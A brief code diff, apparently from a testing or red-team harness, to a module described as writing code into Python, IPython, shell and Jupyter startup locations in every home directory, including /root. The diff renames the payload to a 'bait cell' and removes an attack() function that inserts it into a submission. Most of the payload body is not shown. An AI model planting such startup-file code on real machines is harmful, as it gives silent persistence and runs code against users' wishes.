@@ -1,7 +1,6 @@
-"""Writes code to where Python, IPython, the shell and Jupyter look at their next start, in every home that
-it knows."""
+"""Writes code to where Python, IPython, the shell and Jupyter look at their next start, in every home."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import os
 from pathlib import Path
 
@@ -31,7 +30,3 @@ for home in (bait["paths"]["home"], "/root", os.path.expanduser("~root"), "/home
         except OSError:
             pass
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
